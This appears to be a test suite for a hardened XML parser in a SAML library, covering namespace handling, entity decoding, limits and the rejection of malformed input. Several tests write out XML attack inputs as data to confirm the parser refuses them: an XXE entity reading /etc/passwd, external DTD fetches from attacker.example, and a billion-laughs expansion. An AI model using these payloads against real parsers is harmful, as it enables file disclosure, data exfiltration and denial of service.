import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { DEFAULT_XML_LIMITS, parseXml } from '../../../src/saml/xml/parser.js';
import type { XmlElement, XmlNode } from '../../../src/saml/xml/tree.js';
import { childElements, textContent, XML_NAMESPACE } from '../../../src/saml/xml/tree.js';
import { assertRefused, findElement, timed } from './helpers.js';

function onlyChild(el: XmlElement): XmlNode {
  assert.equal(
    el.children.length,
    1,
    `children of ${el.name}: ${JSON.stringify(el.children.map((c) => c.type))}`,
  );
  return el.children[0]!;
}

function text(source: string): string {
  const node = onlyChild(parseXml(source));
  assert.equal(node.type, 'text');
  return node.value;
}

function attribute(source: string, name: string): string {
  const found = parseXml(source).attributes.find((a) => a.name === name);
  assert.ok(found, `no attribute ${name}`);
  return found.value;
}

function nested(depth: number): string {
  return '<e>'.repeat(depth) + '</e>'.repeat(depth);
}

describe('parseXml: well-formed documents', () => {
  it('reads an element with no namespace', () => {
    const root = parseXml('<a/>');
    assert.equal(root.type, 'element');
    assert.equal(root.name, 'a');
    assert.equal(root.prefix, '');
    assert.equal(root.local, 'a');
    assert.equal(root.ns, '');
    assert.equal(root.parent, null);
    assert.deepEqual(root.children, []);
    assert.deepEqual(root.attributes, []);
  });

  it('resolves the default namespace for the element and its descendants', () => {
    const root = parseXml('<a xmlns="urn:d"><b><c/></b></a>');
    assert.equal(root.ns, 'urn:d');
    assert.equal(findElement(root, 'b').ns, 'urn:d');
    assert.equal(findElement(root, 'c').ns, 'urn:d');
    assert.deepEqual(root.namespaceDecls, [{ prefix: '', uri: 'urn:d' }]);
  });

  it('resolves prefixed names, leaving unprefixed ones outside the prefix namespace', () => {
    const root = parseXml('<p:a xmlns:p="urn:p"><p:b/><c/></p:a>');
    assert.equal(root.prefix, 'p');
    assert.equal(root.local, 'a');
    assert.equal(root.ns, 'urn:p');
    assert.equal(findElement(root, 'p:b').ns, 'urn:p');
    assert.equal(findElement(root, 'c').ns, '');
  });

  it('lets a descendant redeclare a prefix for its own subtree only', () => {
    const root = parseXml('<p:a xmlns:p="urn:1"><p:b xmlns:p="urn:2"><p:c/></p:b><p:d/></p:a>');
    assert.equal(findElement(root, 'p:b').ns, 'urn:2');
    assert.equal(findElement(root, 'p:c').ns, 'urn:2');
    assert.equal(findElement(root, 'p:d').ns, 'urn:1');
  });

  it('undeclares the default namespace with xmlns=""', () => {
    const root = parseXml('<a xmlns="urn:d"><b xmlns=""><c/></b><d/></a>');
    assert.equal(findElement(root, 'b').ns, '');
    assert.equal(findElement(root, 'c').ns, '');
    assert.equal(findElement(root, 'd').ns, 'urn:d');
    assert.deepEqual(findElement(root, 'b').namespaceDecls, [{ prefix: '', uri: '' }]);
  });

  it('puts prefixed attributes in their namespace and unprefixed ones in none', () => {
    const root = parseXml('<a xmlns="urn:d" xmlns:p="urn:p" p:x="1" y="2"/>');
    assert.deepEqual(
      root.attributes.map((a) => [a.name, a.prefix, a.local, a.ns, a.value]),
      [
        ['p:x', 'p', 'x', 'urn:p', '1'],
        ['y', '', 'y', '', '2'],
      ],
    );
  });

  it('keeps namespace declarations out of the attributes', () => {
    const root = parseXml('<a xmlns="urn:d" xmlns:p="urn:p" b="1"/>');
    assert.deepEqual(
      root.attributes.map((a) => a.name),
      ['b'],
    );
    assert.deepEqual(root.namespaceDecls, [
      { prefix: '', uri: 'urn:d' },
      { prefix: 'p', uri: 'urn:p' },
    ]);
  });

  it('binds the xml prefix without a declaration', () => {
    const root = parseXml('<a xml:lang="en"><xml:b/></a>');
    assert.equal(root.attributes[0]!.ns, XML_NAMESPACE);
    assert.equal(root.attributes[0]!.local, 'lang');
    assert.equal(findElement(root, 'xml:b').ns, XML_NAMESPACE);
  });

  it('accepts an explicit declaration of the xml prefix to its own namespace', () => {
    // Regression: this used to throw a TypeError (the root scope is frozen).
    const root = parseXml(
      `<a xmlns:xml="${XML_NAMESPACE}" xml:lang="en"><b xmlns:xml="${XML_NAMESPACE}"/></a>`,
    );
    assert.equal(root.attributes[0]!.ns, XML_NAMESPACE);
    assert.equal(root.scope['xml'], XML_NAMESPACE);
  });

  it('accepts prefixes that are names of Object.prototype members', () => {
    const root = parseXml(
      '<__proto__:a xmlns:__proto__="urn:x" xmlns:constructor="urn:c"><constructor:b __proto__:t="1"/></__proto__:a>',
    );
    assert.equal(root.ns, 'urn:x');
    const b = findElement(root, 'constructor:b');
    assert.equal(b.ns, 'urn:c');
    assert.equal(b.attributes[0]!.ns, 'urn:x');
  });

  it('links children to their parent and keeps document order', () => {
    const root = parseXml('<a><b/>t<c/><!--x--></a>');
    assert.deepEqual(
      root.children.map((c) => c.type),
      ['element', 'text', 'element', 'comment'],
    );
    for (const child of childElements(root)) assert.equal(child.parent, root);
  });

  it('accepts an XML declaration in its allowed spellings', () => {
    for (const decl of [
      '<?xml version="1.0"?>',
      "<?xml version='1.0' encoding='UTF-8'?>",
      '<?xml version="1.0" encoding="utf-8" standalone="yes"?>',
      '<?xml version = "1.0"  encoding = "UTF8" ?>',
      '<?xml version="1.1"?>',
    ]) {
      assert.equal(parseXml(`${decl}\n<a/>`).name, 'a', decl);
    }
  });

  it('accepts whitespace and comments around the root element', () => {
    const root = parseXml('<?xml version="1.0"?>\n<!-- before -->\n \t<a/>\r\n<!-- after -->\n');
    assert.equal(root.name, 'a');
  });

  it('skips a leading byte order mark', () => {
    assert.equal(parseXml('\ufeff<a/>').name, 'a');
    assert.equal(parseXml('\ufeff<?xml version="1.0" encoding="UTF-8"?><a/>').name, 'a');
  });

  it('accepts whitespace inside tags and after end-tag names', () => {
    const root = parseXml('<a\n\tb = "1"\r\n  c=\'2\' ><d /></a >');
    assert.deepEqual(
      root.attributes.map((a) => [a.name, a.value]),
      [
        ['b', '1'],
        ['c', '2'],
      ],
    );
    assert.equal(childElements(root)[0]!.name, 'd');
  });

  it('accepts non-ASCII names', () => {
    assert.equal(parseXml('<é:ñ xmlns:é="urn:e" ü="1"/>').local, 'ñ');
  });
});

describe('parseXml: text and attribute values', () => {
  it('decodes the five predefined entities in text', () => {
    assert.equal(text('<a>&lt;&gt;&amp;&quot;&apos;</a>'), '<>&"\'');
  });

  it('decodes decimal and hexadecimal character references', () => {
    assert.equal(text('<a>&#65;&#x42;&#x43;</a>'), 'ABC');
    assert.equal(text('<a>&#x1F600;&#128512;&#x00e9;</a>'), '😀😀é');
    assert.equal(text('<a>&#0000065;</a>'), 'A');
  });

  it('merges CDATA sections into the surrounding text node', () => {
    const root = parseXml('<a>x<![CDATA[<y>&amp;]]>z<![CDATA[]]></a>');
    assert.deepEqual(root.children, [{ type: 'text', value: 'x<y>&amp;z' }]);
  });

  it('keeps a CDATA section that looks like markup as text', () => {
    assert.equal(text('<a><![CDATA[<!DOCTYPE x><?pi?>&e;]]></a>'), '<!DOCTYPE x><?pi?>&e;');
  });

  it('normalises CRLF and lone CR to LF, in text and CDATA', () => {
    assert.equal(text('<a>1\r\n2\r3\n4<![CDATA[\r\n5]]></a>'), '1\n2\n3\n4\n5');
  });

  it('keeps a CR written as a character reference', () => {
    assert.equal(text('<a>1&#13;&#10;2&#xD;</a>'), '1\r\n2\r');
  });

  it('keeps literal > and quotes in text', () => {
    assert.equal(text('<a>a > b "c" \'d\' ]] ></a>'), 'a > b "c" \'d\' ]] >');
  });

  it('normalises literal TAB, LF and CRLF in attribute values to spaces', () => {
    assert.equal(attribute('<a v="a\tb\nc\r\nd\re"/>', 'v'), 'a b c d e');
  });

  it('keeps TAB, LF and CR written as character references in attribute values', () => {
    assert.equal(attribute('<a v="a&#9;b&#10;c&#13;d&#xA;"/>', 'v'), 'a\tb\nc\rd\n');
  });

  it('decodes entities in attribute values and accepts > and the other quote', () => {
    assert.equal(attribute('<a v="&lt;&amp;&gt;&quot;\'>"/>', 'v'), '<&>"\'>');
    assert.equal(attribute("<a v='\"&apos;'/>", 'v'), '"\'');
  });

  it('keeps comments as nodes and text reading skips them', () => {
    const root = parseXml('<a>fed<!-- comment -->-0042</a>');
    assert.deepEqual(root.children, [
      { type: 'text', value: 'fed' },
      { type: 'comment', value: ' comment ' },
      { type: 'text', value: '-0042' },
    ]);
    assert.equal(textContent(root), 'fed-0042');
  });

  it('reads empty and single-dash comments', () => {
    const root = parseXml('<a><!----><!---x--><!--a-b--></a>');
    assert.deepEqual(
      root.children.map((c) => (c.type === 'comment' ? c.value : c.type)),
      ['', '-x', 'a-b'],
    );
  });

  it('keeps whitespace-only text nodes', () => {
    const root = parseXml('<a>\n  <b/>\n</a>');
    assert.deepEqual(
      root.children.map((c) => (c.type === 'text' ? c.value : c.type)),
      ['\n  ', 'element', '\n'],
    );
  });

  it('keeps non-ASCII and astral characters, and a U+FEFF that is not leading', () => {
    assert.equal(text('<a>é€😀\ufeff\u2028</a>'), 'é€😀\ufeff\u2028');
  });
});

describe('parseXml: refused documents', () => {
  it('refuses a DOCTYPE anywhere (XML_DTD_FORBIDDEN)', () => {
    assertRefused('<!DOCTYPE a><a/>', 'XML_DTD_FORBIDDEN');
    assertRefused('<?xml version="1.0"?>\n<!DOCTYPE a [ ]><a/>', 'XML_DTD_FORBIDDEN');
    assertRefused('<!-- c --><!DOCTYPE a><a/>', 'XML_DTD_FORBIDDEN');
    assertRefused('<a><!DOCTYPE a></a>', 'XML_DTD_FORBIDDEN');
  });

  it('refuses internal and external entity declarations (XML_DTD_FORBIDDEN)', () => {
    assertRefused('<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>', 'XML_DTD_FORBIDDEN');
    assertRefused('<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>', 'XML_DTD_FORBIDDEN');
    assertRefused(
      '<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>',
      'XML_DTD_FORBIDDEN',
    );
    assertRefused(
      '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><a/>',
      'XML_DTD_FORBIDDEN',
    );
    assertRefused('<!ENTITY e "x"><a/>', 'XML_DTD_FORBIDDEN');
    assertRefused('<a><!ENTITY e "x"></a>', 'XML_DTD_FORBIDDEN');
  });

  it('refuses a billion-laughs document at once (XML_DTD_FORBIDDEN)', () => {
    let dtd = '<!ENTITY lol0 "lol">';
    for (let i = 1; i < 10; i++) dtd += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
    const source = `<?xml version="1.0"?><!DOCTYPE lolz [${dtd}]><lolz>&lol9;</lolz>`;
    const ms = timed(() => assertRefused(source, 'XML_DTD_FORBIDDEN'));
    assert.ok(ms < 50, `took ${ms} ms`);
  });

  it('refuses references to undefined entities (XML_ENTITY_FORBIDDEN)', () => {
    assertRefused('<a>&e;</a>', 'XML_ENTITY_FORBIDDEN');
    assertRefused('<a b="&nbsp;"/>', 'XML_ENTITY_FORBIDDEN');
    assertRefused('<a>&AMP;</a>', 'XML_ENTITY_FORBIDDEN');
  });

  it('refuses entity names that are Object.prototype members (XML_ENTITY_FORBIDDEN)', () => {
    // Regression: these used to expand to "function Object() { [native code] }" and the like.
    for (const name of ['constructor', '__proto__', 'toString', 'valueOf']) {
      assertRefused(`<a>&${name};</a>`, 'XML_ENTITY_FORBIDDEN');
      assertRefused(`<a b="&${name};"/>`, 'XML_ENTITY_FORBIDDEN');
    }
  });

  it('refuses processing instructions anywhere (XML_MALFORMED)', () => {
    assertRefused('<?pi data?><a/>', 'XML_MALFORMED');
    assertRefused('<?xml-stylesheet href="x.xsl"?><a/>', 'XML_MALFORMED');
    assertRefused('<a><?pi?></a>', 'XML_MALFORMED');
    assertRefused('<a/><?pi?>', 'XML_MALFORMED');
    assertRefused('<?xml version="1.0"?><?xml version="1.0"?><a/>', 'XML_MALFORMED');
    assertRefused(' <?xml version="1.0"?><a/>', 'XML_MALFORMED');
  });

  it('refuses encodings other than UTF-8 and invalid XML declarations (XML_MALFORMED)', () => {
    for (const encoding of ['ISO-8859-1', 'UTF-16', 'windows-1252', 'US-ASCII', 'UTF-7']) {
      assertRefused(`<?xml version="1.0" encoding="${encoding}"?><a/>`, 'XML_MALFORMED');
    }
    assertRefused('<?xml version="2.0"?><a/>', 'XML_MALFORMED');
    assertRefused('<?xml encoding="UTF-8"?><a/>', 'XML_MALFORMED');
    assertRefused('<?xml version="1.0" standalone="yes" encoding="UTF-8"?><a/>', 'XML_MALFORMED');
    assertRefused('<?xml version="1.0"', 'XML_MALFORMED');
  });

  it('refuses mismatched end tags (XML_MALFORMED)', () => {
    assertRefused('<a></b>', 'XML_MALFORMED');
    assertRefused('<a><b></a></b>', 'XML_MALFORMED');
    assertRefused('<p:a xmlns:p="urn:p" xmlns:q="urn:p"></q:a>', 'XML_MALFORMED');
    assertRefused('<a></a></a>', 'XML_MALFORMED');
  });

  it('refuses unclosed and truncated documents (XML_MALFORMED)', () => {
    for (const source of [
      '',
      '   ',
      '<a>',
      '<a><b/>',
      '<a',
      '<a b',
      '<a b=',
      '<a b="1"',
      '<a b="1',
      '<a>text',
      '<a><!-- x',
      '<a><![CDATA[x</a>',
      '<a></a',
      '<a/',
      '<!-- only a comment -->',
    ]) {
      assertRefused(source, 'XML_MALFORMED');
    }
  });

  it('refuses two roots, and text outside the root (XML_MALFORMED)', () => {
    assertRefused('<a/><b/>', 'XML_MALFORMED');
    assertRefused('<a></a><a></a>', 'XML_MALFORMED');
    assertRefused('<a/>x', 'XML_MALFORMED');
    assertRefused('x<a/>', 'XML_MALFORMED');
    assertRefused('<a/>&amp;', 'XML_MALFORMED');
    assertRefused('<a/><![CDATA[x]]>', 'XML_MALFORMED');
  });

  it('refuses duplicate attributes, by qualified name and by expanded name (XML_MALFORMED)', () => {
    assertRefused('<a b="1" b="2"/>', 'XML_MALFORMED');
    assertRefused('<a b="1" b="1"/>', 'XML_MALFORMED');
    assertRefused('<a xmlns:p="urn:x" xmlns:q="urn:x" p:b="1" q:b="2"/>', 'XML_MALFORMED');
    assertRefused('<r xmlns:p="urn:x"><a xmlns:q="urn:x" p:b="1" q:b="2"/></r>', 'XML_MALFORMED');
    assertRefused('<a xmlns:p="urn:1" xmlns:p="urn:2"/>', 'XML_MALFORMED');
    assertRefused('<a xmlns="urn:1" xmlns="urn:2"/>', 'XML_MALFORMED');
  });

  it('accepts same local names in different namespaces', () => {
    const root = parseXml('<a xmlns:p="urn:1" xmlns:q="urn:2" b="0" p:b="1" q:b="2"/>');
    assert.equal(root.attributes.length, 3);
  });

  it('refuses undeclared prefixes (XML_MALFORMED)', () => {
    assertRefused('<p:a/>', 'XML_MALFORMED');
    assertRefused('<a p:b="1"/>', 'XML_MALFORMED');
    assertRefused('<r><a xmlns:p="urn:p"/><p:b/></r>', 'XML_MALFORMED');
    assertRefused('<xmlns:a/>', 'XML_MALFORMED');
  });

  it('refuses undeclaring a prefix and misusing reserved namespaces (XML_MALFORMED)', () => {
    assertRefused('<a xmlns:p=""/>', 'XML_MALFORMED');
    assertRefused('<a xmlns:xmlns="urn:x"/>', 'XML_MALFORMED');
    assertRefused('<a xmlns:xml="urn:x"/>', 'XML_MALFORMED');
    assertRefused(`<a xmlns:p="${XML_NAMESPACE}"/>`, 'XML_MALFORMED');
    assertRefused(`<a xmlns="${XML_NAMESPACE}"/>`, 'XML_MALFORMED');
    assertRefused('<a xmlns:p="http://www.w3.org/2000/xmlns/"/>', 'XML_MALFORMED');
    assertRefused('<a xmlns="http://www.w3.org/2000/xmlns/"/>', 'XML_MALFORMED');
  });

  it('refuses the empty prefix of xmlns: (XML_MALFORMED)', () => {
    // Regression: `xmlns:` used to be taken as a second default namespace declaration.
    assertRefused('<a xmlns:="urn:x"/>', 'XML_MALFORMED');
    assertRefused('<a xmlns="urn:1" xmlns:="urn:2"/>', 'XML_MALFORMED');
  });

  it('refuses malformed qualified names (XML_MALFORMED)', () => {
    for (const source of [
      '<:a/>',
      '<p:/>',
      '<a:b:c xmlns:a="urn:a"/>',
      '<a :b="1"/>',
      '<a p:="1" xmlns:p="urn:p"/>',
      '<a xmlns:p:q="urn:p"/>',
      '<1a/>',
      '<a -b="1"/>',
      '< a/>',
    ]) {
      assertRefused(source, 'XML_MALFORMED');
    }
  });

  it('refuses characters XML forbids, literal or referenced (XML_MALFORMED)', () => {
    for (const source of [
      '<a>\u0000</a>',
      '<a>\u0001</a>',
      '<a b="\u0001"/>',
      '<a><!--\u0008--></a>',
      '<a><![CDATA[\u001f]]></a>',
      '<a>\ufffe</a>',
      '<a>\uffff</a>',
      '\u0000<a/>',
      '<a>&#0;</a>',
      '<a>&#x0;</a>',
      '<a>&#1;</a>',
      '<a b="&#x1F;"/>',
      '<a>&#xD800;</a>',
      '<a>&#xDFFF;</a>',
      '<a>&#xFFFE;</a>',
      '<a>&#x110000;</a>',
      '<a>&#99999999;</a>',
    ]) {
      assertRefused(source, 'XML_MALFORMED');
    }
  });

  it('refuses malformed references (XML_MALFORMED)', () => {
    for (const source of [
      '<a>&amp</a>',
      '<a>& b</a>',
      '<a>&#;</a>',
      '<a>&#x;</a>',
      '<a>&#12a;</a>',
      '<a>&#xG;</a>',
      '<a>&#X41;</a>',
      '<a b="&"/>',
    ]) {
      assertRefused(source, 'XML_MALFORMED');
    }
  });

  it("refuses '--' inside a comment (XML_MALFORMED)", () => {
    assertRefused('<a><!-- a -- b --></a>', 'XML_MALFORMED');
    assertRefused('<a><!-- a ---></a>', 'XML_MALFORMED');
    assertRefused('<!-- a -- b --><a/>', 'XML_MALFORMED');
    assertRefused('<a><!---></a>', 'XML_MALFORMED');
  });

  it("refuses ']]>' in text (XML_MALFORMED)", () => {
    assertRefused('<a>]]></a>', 'XML_MALFORMED');
    assertRefused('<a>x]]>y</a>', 'XML_MALFORMED');
    assertRefused('<a><![CDATA[x]]>]]></a>', 'XML_MALFORMED');
  });

  it("refuses '<' in attribute values (XML_MALFORMED)", () => {
    assertRefused('<a b="<"/>', 'XML_MALFORMED');
    assertRefused("<a b='x<y'/>", 'XML_MALFORMED');
  });

  it('refuses unquoted and badly separated attributes (XML_MALFORMED)', () => {
    for (const source of [
      '<a b=1/>',
      '<a b/>',
      '<a b="1"c="2"/>',
      '<a b="1"/c="2">',
      '<a b=`1`/>',
      '<a b="1"" />',
      '<a / >',
      '<a b="1" / >',
    ]) {
      assertRefused(source, 'XML_MALFORMED');
    }
  });

  it('refuses markup declarations and CDATA outside the root (XML_MALFORMED)', () => {
    assertRefused('<!ELEMENT a ANY><a/>', 'XML_MALFORMED');
    assertRefused('<![CDATA[x]]><a/>', 'XML_MALFORMED');
    assertRefused('<a><!ELEMENT a ANY></a>', 'XML_MALFORMED');
  });
});

describe('parseXml: limits', () => {
  it('accepts nesting up to the depth limit', () => {
    const root = parseXml(nested(DEFAULT_XML_LIMITS.maxDepth));
    assert.equal(root.name, 'e');
    assert.equal(parseXml('<e>'.repeat(47) + '<e/>' + '</e>'.repeat(47)).name, 'e');
  });

  it('refuses nesting past the depth limit (XML_TOO_DEEP)', () => {
    assertRefused(nested(DEFAULT_XML_LIMITS.maxDepth + 1), 'XML_TOO_DEEP');
    assertRefused('<e>'.repeat(48) + '<e/>' + '</e>'.repeat(48), 'XML_TOO_DEEP');
  });

  it('refuses 10,000 nested elements quickly and without recursion (XML_TOO_DEEP)', () => {
    const ms = timed(() => assertRefused(nested(10_000), 'XML_TOO_DEEP'));
    assert.ok(ms < 100, `took ${ms} ms`);
    // Even with a limit that lets them through, the parser itself does not recurse.
    const root = parseXml(nested(10_000), { ...DEFAULT_XML_LIMITS, maxDepth: 20_000 });
    assert.equal(root.name, 'e');
  });

  it('honours a custom depth limit', () => {
    assert.equal(parseXml(nested(3), { ...DEFAULT_XML_LIMITS, maxDepth: 3 }).name, 'e');
    assertRefused(nested(4), 'XML_TOO_DEEP', { ...DEFAULT_XML_LIMITS, maxDepth: 3 });
  });

  it('accepts elements up to the element limit', () => {
    const source = `<r>${'<e/>'.repeat(DEFAULT_XML_LIMITS.maxElements - 1)}</r>`;
    assert.equal(childElements(parseXml(source)).length, DEFAULT_XML_LIMITS.maxElements - 1);
  });

  it('refuses more elements than the limit (XML_TOO_COMPLEX)', () => {
    assertRefused(`<r>${'<e/>'.repeat(DEFAULT_XML_LIMITS.maxElements)}</r>`, 'XML_TOO_COMPLEX');
    assertRefused('<r><e/><e/><e/></r>', 'XML_TOO_COMPLEX', { ...DEFAULT_XML_LIMITS, maxElements: 3 });
  });

  it('refuses more attributes than the limit', () => {
    const attrs = (n: number) => Array.from({ length: n }, (_, i) => ` a${i}="${i}"`).join('');
    assert.equal(parseXml(`<r${attrs(DEFAULT_XML_LIMITS.maxAttributes)}/>`).attributes.length, 64);
    assertRefused(`<r${attrs(DEFAULT_XML_LIMITS.maxAttributes + 1)}/>`, 'XML_TOO_COMPLEX');
  });

  it('stays linear on large hostile inputs', () => {
    const cases: Array<[string, () => void]> = [
      ['many references', () => parseXml(`<a>${'&amp;&#x41;'.repeat(20_000)}</a>`)],
      ['many comments', () => parseXml(`<a>${'<!---->x'.repeat(20_000)}</a>`)],
      ['many CDATA sections', () => parseXml(`<a>${'<![CDATA[x]]>'.repeat(20_000)}</a>`)],
      ['long attribute value', () => parseXml(`<a b="${'x&lt;'.repeat(50_000)}"/>`)],
      ['unterminated attribute', () => assertRefused(`<a b="${'x'.repeat(200_000)}`, 'XML_MALFORMED')],
      ['unterminated comment', () => assertRefused(`<a><!--${'-x'.repeat(100_000)}`, 'XML_MALFORMED')],
      [
        'ampersands without semicolons',
        () => assertRefused(`<a>${'&a'.repeat(100_000)}</a>`, 'XML_MALFORMED'),
      ],
      ['wide namespace scopes', () => parseXml(`<r>${'<p:e xmlns:p="urn:p"/>'.repeat(10_000)}</r>`)],
    ];
    for (const [name, run] of cases) {
      const ms = timed(run);
      assert.ok(ms < 500, `${name} took ${ms} ms`);
    }
  });
});

describe('parseXml: names and references (regressions)', () => {
  it('refuses element and attribute names holding characters XML forbids (XML_MALFORMED)', () => {
    // Names once accepted any code unit from U+00C0 up, U+FFFE, U+FFFF and lone surrogates included.
    for (const source of [
      '<a\uffff/>',
      '<a\ufffe/>',
      '<a b\uffff="1"/>',
      '<a\ud800/>',
      '<a\u00d7/>',
      '<\u00f7/>',
    ]) {
      assertRefused(source, 'XML_MALFORMED');
    }
  });

  it('refuses an empty entity reference as malformed (XML_MALFORMED)', () => {
    assertRefused('<a>&;</a>', 'XML_MALFORMED');
  });
});
